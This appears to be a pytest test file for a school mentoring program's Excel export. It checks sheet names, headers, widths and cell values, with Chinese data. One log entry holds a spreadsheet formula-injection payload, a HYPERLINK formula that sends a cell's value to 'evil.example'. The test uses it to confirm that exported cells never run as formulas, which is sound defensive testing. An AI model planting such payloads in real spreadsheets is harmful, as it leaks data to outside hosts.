"""The office's Excel export, opened with openpyxl and read cell by cell, as the clerk would in Excel."""
from __future__ import annotations

from datetime import date, datetime

from openpyxl import load_workbook
from sqlalchemy import select

from program.annual import Dimension, Outcome, Rating
from program.evaluations import EvaluationKind
from program.growth_log import ActivityKind
from program.i18n import plain_translator
from program.plans import PlanContent
from storage import annual, evaluations, logs, plans
from storage.export import export
from storage.export_activity import ExportFilter
from storage.models import Person
from tests.conftest import SHANGHAI, at
from tests.helpers import import_roster, make_services

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
PHOTO = {"kind": "photo", "file_id": "P1"}
PDF = {"kind": "document", "file_id": "D1", "file_name": "实验记录.pdf", "size": 2048}


async def _story(sessions, clock):  # noqa: ANN001, ANN202 - a term of the program, as the office will export it
    async with sessions() as session, session.begin():
        ids = dict((await session.execute(select(Person.name, Person.id))).all())
        first = await logs.file_log(session, student_id=ids["王小明"], kind=ActivityKind.MENTOR_MEETING,
                                    activity_date=date(2026, 11, 18), did="测量石墨烯的电阻\n第二行",
                                    learned="四探针法",
                                    next_steps="-5+3 先做对照", hours=2, files=[PHOTO, PDF], session_id=None,
                                    now=clock.now())
        await logs.review(session, first, reviewer_id=ids["张丽"], version=first.version, confirmed=True, reason=None,
                          now=clock.now())
        await logs.file_log(session, student_id=ids["王小明"], kind=ActivityKind.READING,
                            activity_date=date(2026, 11, 19), did=ATTACK, learned="@SUM(A1)", next_steps="",
                            hours=1.5, files=[], session_id=None, now=clock.now())
        await logs.file_log(session, student_id=ids["孙悦"], kind=ActivityKind.READING,
                            activity_date=date(2026, 11, 19), did="别的学校", learned="", next_steps="",
                            hours=1, files=[], session_id=None, now=clock.now())
        evaluation = await evaluations.start(session, student_id=ids["王小明"], mentor_id=ids["李明教授"],
                                             kind=EvaluationKind.INITIAL, year=2026, now=clock.now())
        await evaluations.answer(session, evaluation, "status", "good", ids["李明教授"], clock.now())
        await evaluations.answer(session, evaluation, "topic", "石墨烯", ids["李明教授"], clock.now())
        await evaluations.submit(session, evaluation, ids["李明教授"], clock.now())
        plan, draft = await plans.draft_for(session, student_id=ids["王小明"], year=2026, author_id=ids["李明教授"],
                                            now=clock.now())
        plans.write(plan, draft, PlanContent("掌握实验方法", "《费曼物理学讲义》", "石墨烯", {3: 6, 4: 4}),
                    ids["李明教授"], clock.now())
        plans.submit(plan, draft, clock.now())
        await plans.decide(session, plan_id=plan.id, office_id=ids["王主任"], approve=True, reason=None,
                           now=clock.now())
        for name, outcome in (("王小明", Outcome.EXCELLENT), ("刘思源", Outcome.UNQUALIFIED)):
            await annual.record_result(session, student_id=ids[name], year=2026,
                                       ratings={d: Rating.GOOD for d in Dimension}, outcome=outcome,
                                       international=outcome is Outcome.EXCELLENT, note="", office_id=ids["王主任"],
                                       now=clock.now())


def _rows(sheet) -> list[list]:  # noqa: ANN001
    return [[c.value for c in row] for row in sheet.iter_rows()]


async def test_the_export_holds_every_sheet_in_chinese_with_text_that_never_runs(sessions, clock, calendar, tmp_path):
    await import_roster(make_services(sessions, clock, calendar))
    await _story(sessions, clock)
    path = tmp_path / "report.xlsx"
    f = ExportFilter(2026, date(2026, 1, 1), date(2026, 12, 31), SHANGHAI, school="山西大学附属中学")
    async with sessions() as session:
        written = await export(session, str(path), f, plain_translator("zh_CN"), today=date(2026, 11, 20))
    assert written["成长日志"] == 2  # 孙悦 is at another school

    book = load_workbook(path)
    assert book.sheetnames == ["人员", "培养活动", "成长日志", "初期评价", "中期评价", "年度导师评价", "评价修改记录",
                               "培养进度", "培养计划", "年度评价结果", "培养证书名单"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(c.font.b for c in sheet[1]), sheet.title
    log_sheet = book["成长日志"]
    header, confirmed, attacked = _rows(log_sheet)
    assert header == ["编号", "学生", "学校", "学科", "活动日期", "活动类型", "时长", "做了什么",
                      "收获", "问题与下一步", "附件", "状态", "确认人", "确认时间", "退回原因", "提交时间", "修改时间",
                      "国家平台提交时间"]
    assert confirmed[1:6] == ["王小明", "山西大学附属中学", "物理学", datetime(2026, 11, 18), "导师见面"]
    assert confirmed[7:14] == ["测量石墨烯的电阻\n第二行", "四探针法", "-5+3 先做对照", "照片、实验记录.pdf", "已确认",
                               "张丽", datetime(2026, 11, 20, 10, 0)]  # 10:00 in Shanghai, not 02:00 UTC
    assert attacked[7] == ATTACK and attacked[8] == "@SUM(A1)" and attacked[11] == "等待老师确认"
    for row in log_sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} would run as a formula: {cell.value!r}"
    assert log_sheet.column_dimensions["H"].width >= 20  # 做了什么 is wide enough for Chinese text
    assert log_sheet.column_dimensions["B"].width >= 8  # 王小明 is three wide characters

    people = {row[0]: row for row in _rows(book["人员"])[1:]}
    assert set(people) == {"王小明", "刘思源", "张丽", "李明教授", "赵华教授"}  # the school's students and their staff
    assert people["王小明"][1:8] == ["学生", "山西大学附属中学", "物理学", "高一", "李明教授", "张丽", "否"]
    initial = _rows(book["初期评价"])
    assert initial[1][:5] == ["王小明", "山西大学附属中学", "物理学", "李明教授", "已提交"]
    assert "良好" in initial[1] and "石墨烯" in initial[1]
    history = _rows(book["评价修改记录"])[1:]
    assert [(r[1], r[2], r[4]) for r in history] == \
        [("李明教授", "王小明", "修改")] * 2 + [("李明教授", "王小明", "提交")]
    progress = {row[0]: row for row in _rows(book["培养进度"])[1:]}
    assert progress["王小明"][5:8] == [1, 1, 2]  # one confirmed, one waiting (reading counts once confirmed), 2 logs
    assert progress["王小明"][14:16] == ["已通过", "优秀"]
    plan = _rows(book["培养计划"])[1]
    assert plan[3:11] == [1, "已通过", "李明教授", "掌握实验方法", "《费曼物理学讲义》", "石墨烯",
                          "3月 6次, 4月 4次", 10]
    results = {row[0]: row for row in _rows(book["年度评价结果"])[1:]}
    assert results["王小明"][3:9] == ["良好", "良好", "良好", "良好", "优秀", "是"]
    assert results["刘思源"][7] == "不合格"
    assert _rows(book["培养证书名单"])[1:] == [["王小明", "山西大学附属中学", "物理学", "高一", "李明教授", "优秀"]]


async def test_an_empty_program_still_exports_headers(sessions, clock, calendar, tmp_path):
    path = tmp_path / "empty.xlsx"
    f = ExportFilter(2026, date(2026, 1, 1), date(2026, 12, 31), SHANGHAI)
    async with sessions() as session:
        written = await export(session, str(path), f, plain_translator("en"), today=date(2026, 11, 20))
    assert set(written.values()) == {0}
    book = load_workbook(path)
    assert book["People"]["A1"].value == "Name" and book["People"].max_row == 1
    assert at("2026-01-01 00:00").tzinfo is SHANGHAI
